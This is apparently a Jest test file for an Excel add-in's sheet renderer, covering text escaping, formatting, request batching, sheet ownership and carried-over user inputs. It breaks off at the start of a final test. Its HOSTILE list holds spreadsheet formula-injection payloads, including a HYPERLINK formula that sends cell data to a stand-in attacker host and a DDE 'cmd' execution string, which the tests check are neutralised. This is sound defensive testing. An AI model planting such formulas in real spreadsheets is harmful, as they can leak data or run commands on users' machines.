import { DEFAULT_MAX_REQUEST_BYTES, needsTextPrefix, officeInput, renderPlans, RenderOptions } from "../../src/excel/render";
import { OWNER_NAME, OWNER_PROPERTY_KEY, markerText } from "../../src/excel/sheets";
import { PlanValue, SheetPlan } from "../../src/reports/sheetplan";
import { ExcelDouble } from "../doubles/excelDouble";

const FIVE_MB = 5 * 1024 * 1024;

/** Text a hostile or careless data row may hold; each must land as exactly this text. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1,2)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "=",
  "-",
  "'already quoted",
  "00123",
  "1,234.50",
  "12%",
  "(12)",
  "2026-03-05",
  "2026年3月5日",
  "3/5",
  "１２３",
  "TRUE",
  "false",
  "#N/A",
  "$5",
  "合同-001",
];

function render(d: ExcelDouble, plans: SheetPlan[], options: RenderOptions = {}) {
  return d.run((ctx) => renderPlans(ctx as unknown as Excel.RequestContext, plans, { markerStore: "customProperties", ...options }));
}

/** A report-like plan: title, header, `n` data rows (text, money, date, formula), a total row. */
function reportPlan(n: number, overrides: Partial<SheetPlan> = {}): SheetPlan {
  const rows: PlanValue[][] = [];
  for (let i = 0; i < n; i++) {
    rows.push([`客户${i % 97}`, `C-${100000 + i}`, (i * 37) % 100000 / 100, 46000 + (i % 365), { formula: `=C${i + 3}*2` }, i % 3 === 0 ? "是" : null]);
  }
  return {
    name: "应收账龄",
    ownerKey: "aging:test",
    styles: {
      title: { bold: true, fontSize: 14 },
      header: { bold: true, fill: "#D9E1F2", border: true, hAlign: "center", wrap: true },
      money: { numberFormat: "#,##0.00", hAlign: "right" },
      date: { numberFormat: "yyyy-mm-dd" },
      input: { input: true },
      total: { bold: true, border: true },
    },
    blocks: [
      { row: 0, col: 0, values: [["应收账款账龄 Receivables aging"]], style: "title" },
      {
        row: 1,
        col: 0,
        values: [["客户", "合同号", "金额", "到期日", "两倍", "备注"], ...rows, ["合计", null, { formula: `=SUM(C3:C${n + 2})` }, null, null, null]],
        columnStyles: [undefined, undefined, "money", "date", "money", "input"],
        rowStyles: ["header", ...rows.map(() => undefined), "total"],
      },
    ],
    columnWidths: [16, 14, 14, 12, 12, 20],
    freeze: { rows: 2, cols: 1 },
    merges: [{ row: 0, col: 0, rows: 1, cols: 6 }],
    conditionalFormats: [{ kind: "dataBar", area: { row: 2, col: 2, rows: n, cols: 1 }, color: "#5B9BD5" }],
    validations: [{ area: { row: 2, col: 5, rows: n, cols: 1 }, list: ["是", "否"] }],
    charts: [{ kind: "stackedBar", title: "账龄分布", data: { row: 1, col: 0, rows: Math.min(n, 5) + 1, cols: 3 }, anchor: { row: 0, col: 8 }, width: 480, height: 300 }],
    print: { paper: "A4", orientation: "landscape", repeatRows: { first: 0, last: 1 }, fitToWidth: true, footer: "规则手册 v1 · 2026-11-30 & more" },
    tabColor: "#2F5597",
    ...overrides,
  };
}

describe("text safety", () => {
  test.each(HOSTILE)("needsTextPrefix(%j) so Excel keeps it as text", (text) => {
    expect(needsTextPrefix(text)).toBe(true);
    expect(officeInput(text)).toBe(`'${text}`);
  });

  test("plain words need no prefix; formulas and numbers pass through", () => {
    expect(officeInput("项目章程")).toBe("项目章程");
    expect(officeInput("Project")).toBe("Project");
    expect(officeInput({ formula: "=SUM(A1:A2)" })).toBe("=SUM(A1:A2)");
    expect(officeInput({ formula: "SUM(A1:A2)" })).toBe("=SUM(A1:A2)");
    expect(officeInput(12.5)).toBe(12.5);
    expect(officeInput(null)).toBe("");
  });

  test("the double turns the same strings into non-text when written naively (so the next test can fail)", async () => {
    const d = new ExcelDouble();
    const s = d.addSheet("S");
    await d.run(async (ctx) => {
      ctx.workbook.worksheets.getItem("S").getRange(`A1:A${HOSTILE.length}`).values = HOSTILE.map((h) => [h]);
    });
    const converted = HOSTILE.filter((h, i) => !(s.isText(`A${i + 1}`) && s.cell(`A${i + 1}`).value === h));
    expect(converted.length).toBeGreaterThan(HOSTILE.length / 2);
  });

  test("hostile strings in a plan are written as literal text, formulas as formulas", async () => {
    const d = new ExcelDouble();
    d.addSheet("Data");
    const plan: SheetPlan = {
      name: "Hostile",
      ownerKey: "t:hostile",
      styles: {},
      blocks: [{ row: 0, col: 0, values: [...HOSTILE.map((h) => [h, 1] as PlanValue[]), [{ formula: "=SUM(B1:B3)" }, null]] }],
    };
    await render(d, [plan]);
    const s = d.sheet("Hostile");
    HOSTILE.forEach((h, i) => {
      expect({ text: s.isText(`A${i + 1}`), value: s.cell(`A${i + 1}`).value }).toEqual({ text: true, value: h });
    });
    expect(s.cell(`A${HOSTILE.length + 1}`).formula).toBe("=SUM(B1:B3)");
    expect(s.cell("B1").value).toBe(1);
  });
});

describe("renderPlans: content and layout", () => {
  test("a report sheet gets values, number formats, styles and its layout", async () => {
    const d = new ExcelDouble();
    d.addSheet("Data", [["x"]]);
    const result = await render(d, [reportPlan(5)]);
    expect(result.sheets).toEqual([{ name: "应收账龄", ownerKey: "aging:test", replaced: false }]);
    const s = d.sheet("应收账龄");
    expect(s.cell("A1").value).toBe("应收账款账龄 Receivables aging");
    expect(s.cell("A3").value).toBe("客户0");
    expect(s.isText("B3")).toBe(true);
    expect(s.cell("B3").value).toBe("C-100000");
    expect(s.cell("C4").value).toBe(0.37);
    expect(s.cell("C4").numberFormat).toBe("#,##0.00");
    expect(s.cell("D3").numberFormat).toBe("yyyy-mm-dd");
    expect(s.cell("E3").formula).toBe("=C3*2");
    expect(s.cell("C8").formula).toBe("=SUM(C3:C7)");
    // styles
    expect(s.format("A2")).toMatchObject({ bold: true, fill: "#D9E1F2", hAlign: "Center", wrap: true });
    expect(s.format("B4").borders).toEqual({});
    expect(Object.keys(s.format("C2").borders).sort()).toEqual(["bottom", "left", "right", "top"]);
    expect(s.format("A1")).toMatchObject({ bold: true, fontSize: 14 });
    expect(s.format("C3")).toMatchObject({ hAlign: "Right" });
    // input cells look editable and are unlocked; computed ones are not
    expect(s.format("F3")).toMatchObject({ fill: "#FFF2CC", locked: false });
    expect(s.format("E3").locked).toBeUndefined();
    // layout
    expect(s.columnWidths.get(0)).toBeCloseTo((16 * 7 + 5) * 0.75);
    expect(s.freeze).toEqual({ rows: 2, cols: 1 });
    expect(s.merges).toEqual([{ r0: 0, c0: 0, r1: 0, c1: 5 }]);
    expect(s.conditionalFormats).toEqual([{ type: "DataBar", rect: { r0: 2, c0: 2, r1: 6, c1: 2 }, dataBar: { fillColor: "#5B9BD5" } }]);
    expect(s.validations).toEqual([{ rect: { r0: 2, c0: 5, r1: 6, c1: 5 }, rule: { list: { inCellDropDown: true, source: "是,否" } } }]);
    expect(s.charts).toHaveLength(1);
    expect(s.charts[0]).toMatchObject({ type: "BarStacked", title: "账龄分布", source: { r0: 1, c0: 0, r1: 6, c1: 2 }, seriesBy: "Columns", width: 480, height: 300, position: { start: "I1" } });
    expect(s.pageLayout).toMatchObject({
      paperSize: "A4",
      orientation: "Landscape",
      printTitleRows: "$1:$2",
      zoom: { horizontalFitToPages: 1, verticalFitToPages: 0 },
      footers: { center: "规则手册 v1 · 2026-11-30 && more", right: "&P/&N" },
    });
    expect(s.tabColor).toBe("#2F5597");
    expect(s.customProperties.get(OWNER_PROPERTY_KEY.toLowerCase())?.value).toBe(markerText("aging:test", "应收账龄", s.id));
    // the input sheet was never written to
    expect(d.writeLog.every((w) => w.sheetId === s.id)).toBe(true);
    expect(d.sheet("Data").cell("A1").value).toBe("x");
  });

  test("a long or comma-bearing validation list goes into a hidden helper column", async () => {
    const d = new ExcelDouble();
    d.addSheet("S");
    const long = Array.from({ length: 60 }, (_, i) => `选项${i}号`);
    const plan: SheetPlan = {
      name: "Lists",
      ownerKey: "t:lists",
      styles: {},
      blocks: [{ row: 0, col: 0, values: [["a", "b"]] }],
      validations: [
        { area: { row: 1, col: 0, rows: 3, cols: 1 }, list: long },
        { area: { row: 1, col: 1, rows: 3, cols: 1 }, list: ["1,000 以下", "=danger", "其他"] },
      ],
    };
    await render(d, [plan]);
    const s = d.sheet("Lists");
    expect(s.validations.map((v) => v.rule.list.source)).toEqual(["=$D$1:$D$60", "=$E$1:$E$3"]);
    expect(s.cell("D60").value).toBe("选项59号");
    expect(s.isText("E2")).toBe(true);
    expect(s.cell("E2").value).toBe("=danger");
    expect([...s.hiddenColumns].sort()).toEqual([3, 4]);
  });

  test("plan tables become Excel tables with unique valid names", async () => {
    const d = new ExcelDouble();
    const data = d.addSheet("Data", [["h"], [1]]);
    d.addTable(data, "Opportunities", "A1:A2");
    const plan: SheetPlan = {
      name: "Demo",
      ownerKey: "t:demo",
      styles: {},
      blocks: [{ row: 0, col: 0, values: [["项目名称", "金额"], ["A", 1], ["B", 2]] }],
      tables: [{ name: "Opportunities", area: { row: 0, col: 0, rows: 3, cols: 2 }, style: "TableStyleMedium2" }],
    };
    await render(d, [plan]);
    const t = d.state.tables.find((x) => x.sheet.name === "Demo")!;
    expect(t).toMatchObject({ name: "Opportunities_2", rect: { r0: 0, c0: 0, r1: 2, c1: 1 }, showHeaders: true });
  });
});

describe("renderPlans: wrapped text", () => {
  test("blocks with wrapped text are autofitted after the column widths are set; others are not", async () => {
    const d = new ExcelDouble({ keepActionLog: true });
    d.addSheet("Data");
    await render(d, [reportPlan(3)]);
    const log = d.requests.flatMap((r) => r.log);
    const autofits = log.filter((l) => l.includes("autofitRows"));
    expect(autofits).toHaveLength(1); // the table block wraps its header; the title block does not
    expect(autofits[0]).toMatch(/A2:F6/);
    const lastWidth = log.map((l, i) => (l.includes("columnWidth") ? i : -1)).reduce((a, b) => Math.max(a, b), -1);
    expect(log.findIndex((l) => l.includes("autofitRows"))).toBeGreaterThan(lastWidth);
  });
});

describe("renderPlans: requests", () => {
  test("the number of syncs does not depend on the sheet's size (10 vs 10,000 rows)", async () => {
    const counts: number[] = [];
    for (const n of [10, 10_000]) {
      const d = new ExcelDouble();
      d.addSheet("Data");
      await render(d, [reportPlan(n)]);
      counts.push(d.syncCount);
      expect(d.sheet("应收账龄").cell(`A${n + 2}`).value).toBe(`客户${(n - 1) % 97}`);
    }
    expect(counts[0]).toBe(counts[1]);
    expect(counts[0]).toBeLessThanOrEqual(3);
  });

  test("several small reports share their requests", async () => {
    const d = new ExcelDouble();
    d.addSheet("Data");
    const plans = Array.from({ length: 12 }, (_, i) => reportPlan(20, { name: `章程 ${i}`, ownerKey: `charter:${i}` }));
    const result = await render(d, plans);
    expect(result.sheets.map((s) => s.name)).toEqual(plans.map((p) => p.name));
    expect(d.syncCount).toBe(3);
  });

  test("a 100,000-row block is written in row chunks: syncs ≤ chunks + 3, no request over the budget or 5 MB", async () => {
    const d = new ExcelDouble();
    d.addSheet("Data");
    const n = 100_000;
    const result = await render(d, [reportPlan(n, { conditionalFormats: [], validations: [], charts: [] })]);
    const chunks = d.writeLog.filter((w) => w.kind === "values" || w.kind === "formulas" || w.kind === "numberFormat").length;
    expect(chunks).toBeGreaterThan(4);
    expect(d.syncCount).toBeLessThanOrEqual(chunks + 3);
    expect(d.maxRequestBytes()).toBeLessThanOrEqual(FIVE_MB);
    expect(d.maxRequestBytes()).toBeLessThanOrEqual(DEFAULT_MAX_REQUEST_BYTES);
    expect(result.stats.largestRequestBytes).toBeLessThanOrEqual(DEFAULT_MAX_REQUEST_BYTES);
    // every write request suspends calculation; screen updating is suspended once, in the first one (repeated calls flicker)
    const writes = d.requests.slice(2);
    for (const r of writes) expect(r.suspendedCalculation).toBe(true);
    expect(writes.length).toBeGreaterThan(4);
    expect(d.screenUpdatingSuspensions).toBe(1);
    expect(writes.map((r) => r.suspendedScreenUpdating)).toEqual(writes.map((_, i) => i === 0));
    const s = d.sheet("应收账龄");
    expect(s.cell(`B${n + 2}`).value).toBe(`C-${100000 + n - 1}`);
    expect(s.cell(`C${n + 3}`).formula).toBe(`=SUM(C3:C${n + 2})`);
    expect(s.cell(`C${n + 2}`).numberFormat).toBe("#,##0.00");
  });

  test("a row style recurring on every third row of 100,000 costs no extra requests (RangeAreas)", async () => {
    const d = new ExcelDouble();
    d.addSheet("Data");
    const n = 100_000;
    const plan = reportPlan(n, { conditionalFormats: [], validations: [], charts: [] });
    plan.styles.overdue = { fill: "#F8CBAD", fontColor: "#9C0006", border: true };
    const detail = plan.blocks[1];
    detail.rowStyles = detail.values.map((_, i) => (i === 0 ? "header" : i === detail.values.length - 1 ? "total" : i % 3 === 0 ? "overdue" : undefined));
    await render(d, [plan]);
    const chunks = d.writeLog.filter((w) => w.kind === "values" || w.kind === "formulas" || w.kind === "numberFormat").length;
    expect(d.syncCount).toBeLessThanOrEqual(chunks + 3);
    expect(d.maxRequestBytes()).toBeLessThanOrEqual(DEFAULT_MAX_REQUEST_BYTES);
    const s = d.sheet("应收账龄");
    expect(s.format("A5")).toMatchObject({ fill: "#F8CBAD", fontColor: "#9C0006" }); // block row 3
    expect(Object.keys(s.format("B5").borders).sort()).toEqual(["bottom", "left", "right", "top"]);
    expect(s.format("A6").fill).toBeUndefined();
    expect(s.format(`A${99_999 + 2}`)).toMatchObject({ fill: "#F8CBAD" }); // block row 99,999 (a multiple of 3)
  }, 60_000);

  test("progress counts a sheet once the request that completes it has synced, never when it is only queued", async () => {
    const d = new ExcelDouble();
    d.addSheet("Data");
    const seen: Array<{ done: number; total: number; syncs: number; written: boolean }> = [];
    const plans = [reportPlan(3000, { name: "一", ownerKey: "t:1" }), reportPlan(3, { name: "二", ownerKey: "t:2" }), reportPlan(3000, { name: "三", ownerKey: "t:3" })];
    await render(d, plans, {
      maxRequestBytes: 100_000,
      onProgress: (done, total) => {
        // the sheet counted last is in the workbook under its own name, with its marker: its writes have synced
        const sheet = d.state.sheet(plans[done - 1].name);
        seen.push({ done, total, syncs: d.syncCount, written: sheet !== undefined && sheet.customProperties.size === 1 });
      },
    });
    expect(seen.map((s) => s.done)).toEqual([...seen.map((s) => s.done)].sort((a, b) => a - b));
    expect(seen[seen.length - 1]).toMatchObject({ done: 3, total: 3 });
    expect(seen.every((s) => s.written)).toBe(true);
    // a failed run reports none of the sheets it did not finish
    const failing = new ExcelDouble();
    failing.addSheet("Data");
    failing.payloadLimit = 20_000;
    const reported: number[] = [];
    await expect(render(failing, [reportPlan(5000)], { onProgress: (done) => reported.push(done) })).rejects.toThrow(/payload/);
    expect(reported).toEqual([]);
  });

  test("a smaller budget gives more, smaller requests", async () => {
    const d = new ExcelDouble();
    d.addSheet("Data");
    await render(d, [reportPlan(5000)], { maxRequestBytes: 100_000 });
    expect(d.maxRequestBytes()).toBeLessThanOrEqual(100_000);
    const chunks = d.writeLog.filter((w) => w.kind === "values" || w.kind === "formulas" || w.kind === "numberFormat").length;
    expect(d.syncCount).toBeLessThanOrEqual(chunks + 3);
    expect(d.syncCount).toBeGreaterThan(5);
  });

  test("per sheet: every value write comes before every number-format write, which come before every format write", async () => {
    const d = new ExcelDouble();
    d.addSheet("Data");
    await render(d, [reportPlan(30_000), reportPlan(10, { name: "二", ownerKey: "t:2" })]);
    for (const sheet of ["应收账龄", "二"]) {
      const log = d.writeLog.filter((w) => w.sheetId === d.sheet(sheet).id);
      const rank = (k: string) => (k === "values" || k === "formulas" ? 0 : k === "numberFormat" ? 1 : k === "format" ? 2 : 3);
      const ranks = log.map((w) => rank(w.kind));
      expect(ranks).toEqual([...ranks].sort((a, b) => a - b));
      expect(new Set(ranks)).toEqual(new Set([0, 1, 2, 3]));
    }
  });
});

describe("renderPlans: sheet names and ownership", () => {
  test("a user's sheet with the wanted name is untouched; ours gets a suffix", async () => {
    const d = new ExcelDouble();
    const user = d.addSheet("应收账龄", [["mine"]]);
    const result = await render(d, [reportPlan(3)]);
    expect(result.sheets[0]).toMatchObject({ name: "应收账龄 (2)", replaced: false });
    expect(d.sheet("应收账龄")).toBe(user);
    expect(user.cell("A1").value).toBe("mine");
    expect(user.cells.size).toBe(1);
    expect(d.writeLog.some((w) => w.sheetId === user.id)).toBe(false);
  });

  test("regenerating replaces our own sheet, in place, and nothing else", async () => {
    const d = new ExcelDouble();
    d.addSheet("Data", [["x"]]);
    await render(d, [reportPlan(3)]);
    d.addSheet("Later");
    d.sheet("应收账龄").cells.set(0, { value: "user edit" });
    const before = d.sheetNames();
    const result = await render(d, [reportPlan(4)]);
    expect(result.sheets[0]).toEqual({ name: "应收账龄", ownerKey: "aging:test", replaced: true });
    expect(d.sheetNames()).toEqual(before);
    expect(d.sheet("应收账龄").cell("A1").value).toBe("应收账款账龄 Receivables aging");
    expect(d.sheet("应收账龄").cell("A6").value).toBe("客户3");
  });

  test("a user's copy of our sheet (same marker, other name) is not replaced", async () => {
    const d = new ExcelDouble();
    d.addSheet("Data");
    await render(d, [reportPlan(3)]);
    const copy = d.copySheet("应收账龄");
    expect(copy.name).toBe("应收账龄 (2)");
    copy.cells.set(0, { value: "copied" });
    d.sheet("应收账龄").name = "Renamed by user";
    const result = await render(d, [reportPlan(3)]);
    expect(result.sheets[0]).toMatchObject({ name: "应收账龄", replaced: false });
    expect(d.sheet("应收账龄 (2)").cell("A1").value).toBe("copied");
    expect(d.sheetNames()).toContain("Renamed by user");
  });

  test("a user's copy renamed back to our sheet's name is the user's: it is not replaced", async () => {
    const d = new ExcelDouble();
    d.addSheet("Data");
    await render(d, [reportPlan(3)]);
    const ours = d.sheet("应收账龄");
    // the user copies our sheet, types into the copy, deletes the original and renames the copy back
    const copy = d.copySheet(ours);
    expect(copy.id).not.toBe(ours.id);
    expect([...copy.customProperties.values()]).toEqual([...ours.customProperties.values()]);
    copy.cells.set(0, { value: "my notes" });
    d.state.sheets.splice(d.state.sheets.indexOf(ours), 1);
    ours.deleted = true;
    copy.name = "应收账龄";
    const result = await render(d, [reportPlan(3)]);
    expect(result.sheets[0]).toMatchObject({ name: "应收账龄 (2)", replaced: false });
    expect(d.sheet("应收账龄")).toBe(copy);
    expect(copy.cell("A1").value).toBe("my notes");
    // our new sheet is ours again: regenerating replaces it and only it
    const again = await render(d, [reportPlan(3)]);
    expect(again.sheets[0]).toMatchObject({ name: "应收账龄 (2)", replaced: true });
    expect(d.sheetNames()).toEqual(["Data", "应收账龄", "应收账龄 (2)"]);
    expect(copy.cell("A1").value).toBe("my notes");
  });

  test("a copy made through Worksheet.copy also gets a new id", async () => {
    const d = new ExcelDouble();
    d.addSheet("Data");
    await render(d, [reportPlan(3)]);
    const ids = await d.run(async (ctx) => {
      const original = ctx.workbook.worksheets.getItem("应收账龄");
      const copy = original.copy("End");
      original.load("id");
      copy.load("id,name");
      await ctx.sync();
      return { original: original.id as string, copy: copy.id as string, name: copy.name as string };
    });
    expect(ids.copy).not.toBe(ids.original);
    expect(ids.name).toBe("应收账龄 (2)");
    expect(d.sheetNames()).toEqual(["Data", "应收账龄", "应收账龄 (2)"]);
  });

  test("a marked sheet for another ownerKey, or holding a table, is not replaced", async () => {
    const d = new ExcelDouble();
    d.addSheet("Data");
    await render(d, [reportPlan(3), reportPlan(3, { name: "Other", ownerKey: "aging:other" })]);
    d.addTable(d.sheet("Other"), "UserTable", "K1:K2");
    const result = await render(d, [reportPlan(3, { ownerKey: "aging:third", name: "Other" }), reportPlan(3, { name: "Other", ownerKey: "aging:other" })]);
    expect(result.sheets.map((s) => [s.name, s.replaced])).toEqual([
      ["Other (2)", false],
      ["Other (3)", false],
    ]);
  });

  test("a sheet whose only tables are the ones its plan declares (the rules sheet) is replaced, and its tables keep their names", async () => {
    const d = new ExcelDouble();
    d.addSheet("Data");
    const rulesLike = (): SheetPlan => ({
      ...reportPlan(3, { name: "LTC规则", ownerKey: "rules:workbook" }),
      tables: [{ name: "LTC_owner_rules", area: { row: 2, col: 0, rows: 4, cols: 3 } }],
    });
    await render(d, [rulesLike()]);
    expect(d.state.tables.map((t) => t.name)).toEqual(["LTC_owner_rules"]);
    const again = await render(d, [rulesLike()]);
    expect(again.sheets[0]).toEqual({ name: "LTC规则", ownerKey: "rules:workbook", replaced: true });
    expect(d.sheetNames()).toEqual(["Data", "LTC规则"]);
    expect(d.state.tables.map((t) => [t.name, t.sheet.name])).toEqual([["LTC_owner_rules", "LTC规则"]]);
  });

  test("without ExcelApi 1.12 the marker is a sheet-scoped name, and regenerating still replaces", async () => {
    const d = new ExcelDouble({ apiVersion: "1.11" });
    d.addSheet("Data");
    await render(d, [reportPlan(3)], { markerStore: "names" });
    expect(d.sheet("应收账龄").names.get(OWNER_NAME.toUpperCase())?.formula).toMatch(/^="\{""ltc"":2/);
    const result = await render(d, [reportPlan(3)], { markerStore: "names" });
    expect(result.sheets[0].replaced).toBe(true);
    expect(d.sheetNames()).toEqual(["Data", "应收账龄"]);
  });

  test("the marker store follows the host's ExcelApi support when not given", async () => {
    for (const [apiVersion, store] of [["1.11", "names"], ["1.12", "customProperties"]] as const) {
      const d = new ExcelDouble({ apiVersion });
      d.addSheet("Data");
      const uninstall = d.install();
      try {
        await d.run((ctx) => renderPlans(ctx as unknown as Excel.RequestContext, [reportPlan(2)]));
      } finally {
        uninstall();
      }
      const s = d.sheet("应收账龄");
      expect(store === "names" ? s.names.size : s.customProperties.size).toBe(1);
      expect(store === "names" ? s.customProperties.size : s.names.size).toBe(0);
    }
  });

  test("invalid wanted names are made valid and unique", async () => {
    const d = new ExcelDouble();
    d.addSheet("History_");
    const names = ["Bad[Name]:*?/\\ and much too long for Excel", "'quoted'", "", "History", "   ", "bad[name]:*?/\\ and much too long for excel"];
    const plans = names.map((name, i) => reportPlan(2, { name, ownerKey: `n:${i}` }));
    const result = await render(d, plans);
    const got = result.sheets.map((s) => s.name);
    expect(got).toEqual(["Bad_Name______ and much too lon", "quoted", "Sheet", "History_ (2)", "Sheet (2)", "bad_name______ and much too (2)"]);
    expect(d.sheetNames()).toEqual(["History_", ...got]);
  });

  test("a failed request leaves no half-written sheet and the old one intact", async () => {
    const d = new ExcelDouble();
    d.addSheet("Data");
    await render(d, [reportPlan(3)]);
    const before = d.sheetNames();
    d.payloadLimit = 20_000; // the host now rejects big requests
    await expect(render(d, [reportPlan(5000), reportPlan(3, { name: "New", ownerKey: "t:new" })])).rejects.toThrow(/payload/);
    expect(d.sheetNames()).toEqual(before);
    expect(d.sheet("应收账龄").cell("A5").value).toBe("客户2");
  });

  test("the replacement is activated when the replaced sheet was active", async () => {
    const d = new ExcelDouble();
    d.addSheet("Data");
    await render(d, [reportPlan(3)]);
    d.state.activeSheet = d.sheet("应收账龄");
    await render(d, [reportPlan(3)]);
    expect(d.state.activeSheet?.name).toBe("应收账龄");
    expect(d.state.activeSheet?.deleted).toBe(false);
  });
});

describe("renderPlans: what the user typed into input cells is carried over on regeneration", () => {
  /** A charter-like plan: a row per role, its person (an input) and a note seeded with a default (an input). */
  function teamPlan(roles: string[], defaults: Record<string, string> = {}): SheetPlan {
    const rows: PlanValue[][] = roles.map((r) => [r, null, defaults[r] ?? "待定"]);
    return {
      name: "章程",
      ownerKey: "charter:X",
      styles: { input: { input: true, fill: "#FFF2CC" }, date: { numberFormat: "yyyy-mm-dd" } },
      blocks: [
        { row: 0, col: 0, values: [["角色", "人员", "备注"]] },
        { row: 1, col: 0, values: rows, columnStyles: [undefined, "input", "input"] },
      ],
      inputs: {
        cells: roles.flatMap((r, i) => [
          { key: `team/${r}/person`, row: 1 + i, col: 1, label: `团队 · ${r} · 人员` },
          { key: `team/${r}/note`, row: 1 + i, col: 2, label: `团队 · ${r} · 备注` },
        ]),
        unplaced: { title: "未能放回原处的原有输入", place: "原位置", entry: "内容" },
      },
    };
  }

  /** Types into cells the way a user does (Excel's typing rules: "=…" is a formula, a date becomes a serial). */
  async function type(d: ExcelDouble, sheet: string, address: string, text: string): Promise<void> {
    await d.run(async (ctx) => {
      const range = ctx.workbook.worksheets.getItem(sheet).getRange(address);
      if (text.startsWith("=")) range.formulas = [[text]];
      else range.values = [[text]];
    });
  }

  /** Renders and returns the result with the syncs this render took. */
  async function regenerate(d: ExcelDouble, plans: SheetPlan[], options: RenderOptions = {}) {
    const before = d.syncCount;
    const result = await render(d, plans, options);
    return { ...result, syncs: d.syncCount - before };
  }

  /** Simulates Excel inserting a row above 0-based `row` or a column left of `col`: cells move, names over them follow. */
  function insert(sheet: ReturnType<ExcelDouble["sheet"]>, at: { row?: number; col?: number }): void {
    const width = sheet.key(1, 0);
    const moved = new Map<number, (typeof sheet.cells extends Map<number, infer C> ? C : never)>();
    for (const [k, cell] of sheet.cells) {
      const r = Math.floor(k / width);
      const c = k % width;
      moved.set(sheet.key(at.row !== undefined && r >= at.row ? r + 1 : r, at.col !== undefined && c >= at.col ? c + 1 : c), cell);
    }
    sheet.cells = moved;
    for (const n of sheet.names.values()) {
      n.formula = n.formula.replace(/!\$?([A-Z]+)\$?(\d+):\$?([A-Z]+)\$?(\d+)$/, (_m, c0: string, r0: string, c1: string, r1: string) => {
        const shiftCol = (c: string) => (at.col !== undefined && c.charCodeAt(0) - 65 >= at.col ? String.fromCharCode(c.charCodeAt(0) + 1) : c);
        const shiftRow = (r: string, end: boolean) => (at.row !== undefined && (end ? Number(r) - 1 >= at.row - 1 : Number(r) - 1 >= at.row) ? Number(r) + 1 : Number(r));
        return `!$${shiftCol(c0)}$${shiftRow(r0, false)}:$${shiftCol(c1)}$${shiftRow(r1, true)}`;
      });
    }
  }

  test("entries follow their keys into the new sheet (one more sync, one batched read); untouched defaults take the new defaults", async () => {
    const d = new ExcelDouble();
    d.addSheet("Data");
    const first = await regenerate(d, [teamPlan(["发起人", "项目经理", "交付代表"])]);
    expect(first.syncs).toBe(3);
    const s = d.sheet("章程");
    expect(s.hiddenColumns.size).toBe(1);
    await type(d, "章程", "B3", "张三"); // 项目经理's person
    await type(d, "章程", "C2", "每周同步"); // 发起人's note: the default changed
    await type(d, "章程", "B4", "=UPPER(\"li\")"); // a formula the user typed
    await type(d, "章程", "C4", ""); // 交付代表's default cleared

    // the team grows at the top: every role moves down one row
    const again = await regenerate(d, [teamPlan(["客户代表", "发起人", "项目经理", "交付代表"], { 客户代表: "新默认", 项目经理: "新默认" })]);
    // four entries: a name, a changed default, a formula and a cleared default
    expect(again.sheets[0]).toEqual({ name: "章程", ownerKey: "charter:X", replaced: true, carried: { placed: 4, unplaced: [] } });
    expect(again.syncs).toBe(4);
    const n = d.sheet("章程");
    expect(n.cell("B4").value).toBe("张三");
    expect(n.cell("C3").value).toBe("每周同步");
    expect(n.cell("B5").formula).toBe("=UPPER(\"li\")");
    expect(n.cell("C5").value).toBe("");
    expect(n.cell("C4").value).toBe("新默认"); // 项目经理's note was untouched: the new default, not the old one
    expect(n.cell("C2").value).toBe("新默认");
    expect(n.cell("B2").value).toBe("");

    // carried entries stay entries: regenerating once more keeps them
    const third = await regenerate(d, [teamPlan(["客户代表", "发起人", "项目经理", "交付代表"])]);
    expect(third.sheets[0].carried?.placed).toBe(4);
    expect(d.sheet("章程").cell("B4").value).toBe("张三");
    expect(d.sheet("章程").cell("C3").value).toBe("每周同步");
  });

  test("a sheet with input keys is read in one more sync even when nothing was typed (nothing is carried); a plan without inputs writes no keys", async () => {
    const d = new ExcelDouble();
    d.addSheet("Data");
    await regenerate(d, [teamPlan(["发起人"]), reportPlan(3)]);
    const again = await regenerate(d, [teamPlan(["发起人"]), reportPlan(3)]);
    // the read of the earlier charter rides alone in one sync; nothing was typed, so nothing is carried
    expect(again.syncs).toBe(4);
    expect(again.sheets.map((x) => x.carried)).toEqual([undefined, undefined]);
    expect(d.sheet("应收账龄").names.size).toBe(0);
    expect(d.sheet("应收账龄").hiddenColumns.size).toBe(0);
    expect(d.sheet("章程").hiddenColumns.size).toBe(1);
    // a report without input keys is replaced in the usual three syncs
    expect((await regenerate(d, [reportPlan(3)])).syncs).toBe(3);
  });

  test("an entry whose key is gone (a role removed) is listed below the sheet, not dropped; it goes back in place when the key returns", async () => {
    const d = new ExcelDouble();
    d.addSheet("Data");
    await regenerate(d, [teamPlan(["发起人", "项目经理", "交付代表"])]);
    await type(d, "章程", "B3", "张三");
    await type(d, "章程", "C3", "2026-12-01");
    await d.run(async (ctx) => {
      ctx.workbook.worksheets.getItem("章程").getRange("C3").numberFormat = [["yyyy-mm-dd"]];
    });
    await type(d, "章程", "B4", "=\"王\"&\"五\"");
    const result = await regenerate(d, [teamPlan(["发起人", "交付代表"])]);
    expect(result.sheets[0].carried).toEqual({
      placed: 1,
      unplaced: [
        { label: "团队 · 项目经理 · 人员", value: "张三" },
        { label: "团队 · 项目经理 · 备注", value: 46357 },
      ],
    });
    const s = d.sheet("章程");
    expect(s.cell("B3").formula).toBe("=\"王\"&\"五\"");
    // below the content, one row apart: title, header, then each entry with what it was for
    expect([s.cell("A5").value, s.cell("A6").value, s.cell("B6").value]).toEqual(["未能放回原处的原有输入", "原位置", "内容"]);
    expect([s.cell("A7").value, s.cell("B7").value]).toEqual(["团队 · 项目经理 · 人员", "张三"]);
    expect([s.cell("A8").value, s.cell("B8").value, s.cell("B8").numberFormat]).toEqual(["团队 · 项目经理 · 备注", 46357, "yyyy-mm-dd"]);

    // still gone: still listed
    const again = await regenerate(d, [teamPlan(["发起人", "交付代表"])]);
    expect(again.sheets[0].carried?.unplaced.map((e) => e.value)).toEqual(["张三", 46357]);
    expect(d.sheet("章程").cell("B7").value).toBe("张三");
    // the role is back: its entries go back into its row and the list is gone
    const back = await regenerate(d, [teamPlan(["发起人", "项目经理", "交付代表"])]);
    expect(back.sheets[0].carried).toMatchObject({ unplaced: [] });
    const b = d.sheet("章程");
    expect([b.cell("B3").value, b.cell("C3").value]).toEqual(["张三", 46357]);
    expect(b.cell("A6").value).toBe("");
  });

  test("rows the user inserted move the keys with the entries; inserted columns keep the earlier sheet as the user's", async () => {
    const d = new ExcelDouble();
    d.addSheet("Data");
